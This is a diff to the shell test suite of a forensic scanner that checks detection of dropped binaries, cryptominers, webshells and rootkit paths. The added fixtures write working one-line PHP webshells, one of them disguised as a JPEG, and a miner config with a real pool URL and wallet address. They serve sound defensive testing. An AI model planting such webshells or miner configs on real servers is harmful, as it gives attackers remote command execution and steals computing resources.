@@ -27,6 +27,14 @@ check "demo: the miner in /tmp/.X11-unix/.x" has_finding \
     binaries.dropped_elf '.path == "/tmp/.X11-unix/.x/kworker"'
 check "demo: its copy in /usr/local/lib/.cache" has_finding \
     binaries.dropped_elf '.path == "/usr/local/lib/.cache/kworker"'
+check "demo: the miner's config" has_finding binaries.miner \
+    '.path == "/tmp/.X11-unix/.x/config.json"'
+check "demo: the miner binary's strings" has_finding binaries.miner \
+    '.path == "/tmp/.X11-unix/.x/kworker"'
+check "demo: the webshell" has_finding binaries.webshell \
+    '.path == "/var/www/html/wp-content/uploads/.cache.php"'
+check "demo: libprocesshider at its known path" has_finding \
+    binaries.rootkit_path '.path == "/usr/local/lib/libprocesshider.so"'
 
 # --- real packages ----------------------------------------------------
 srv=$T/srv
@@ -53,6 +61,17 @@ cp "$srv/usr/bin/dash" "$srv/var/tmp/.x/kthreadd"
 cp "$srv/usr/bin/dash" "$srv/tmp/.sh"
 chmod 4755 "$srv/tmp/.sh"
 printf '# local change\n' >>"$srv/etc/services"
+mkdir -p "$srv/var/www/html/uploads"
+cat >"$srv/var/tmp/.x/config.json" <<'JSON'
+{ "autosave": true, "donate-level": 0, "cpu": { "enabled": true },
+  "pools": [ { "url": "stratum+tcp://pool.supportxmr.com:3333",
+    "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
+    "algo": "rx/0" } ] }
+JSON
+printf '<?php @eval($_POST["c"]); ?>\n' >"$srv/var/www/html/uploads/x.php"
+printf '\377\330\377\340JFIF<?php system($_GET["cmd"]); ?>' \
+    >"$srv/var/www/html/uploads/logo.jpg"
+printf '<?php echo "hello"; ?>\n' >"$srv/var/www/html/index.php"
 rs binaries --format json --root "$srv"
 cp "$T/out" "$T/mod.json"
 status "tampered: exit 1" 1
@@ -66,6 +85,15 @@ check "ELF in a hidden /var/tmp directory" has_finding \
     binaries.dropped_elf '.path == "/var/tmp/.x/kthreadd"'
 check "setuid shell in /tmp" has_finding binaries.setid_dropped \
     '.path == "/tmp/.sh"'
+check "miner config" has_finding binaries.miner \
+    '.path == "/var/tmp/.x/config.json"'
+check "PHP webshell" has_finding binaries.webshell \
+    '.path == "/var/www/html/uploads/x.php"'
+check "JPEG that is PHP" has_finding binaries.webshell \
+    '.path == "/var/www/html/uploads/logo.jpg"'
+check "an ordinary PHP page is quiet" sh -c "jq -e -s 'map(select(
+    .type == \"finding\" and .path == \"/var/www/html/index.php\")) |
+    length == 0' '$T/mod.json' >/dev/null"
 check "changed conffile is a record, not a finding" sh -c "jq -e -s '
     (map(select(.kind == \"conffile_changed\" and
     .path == \"/etc/services\")) | length == 1) and
@@ -112,7 +140,9 @@ chmod +x "$hst/tmp/bad-elf"
 truncate -s 4G "$hst/tmp/big"
 chmod +x "$hst/tmp/big"
 printf '\177ELF' | dd of="$hst/tmp/big" conv=notrunc status=none
-rs_timed binaries --format json --root "$hst"
+# as an ext4 image: the 4 GiB file stays sparse, its holes read as zeros
+mkfs.ext4 -q -F -d "$hst" "$T/hostile.img" 64M >/dev/null
+rs_timed binaries --format json "$T/hostile.img"
 check "hostile: finishes in time" test "$rc" -ne 124
 check "hostile: every output line is JSON" jq -e . "$T/out" >/dev/null
 check "hostile: the good line of md5sums is verified" sh -c "jq -e -s \
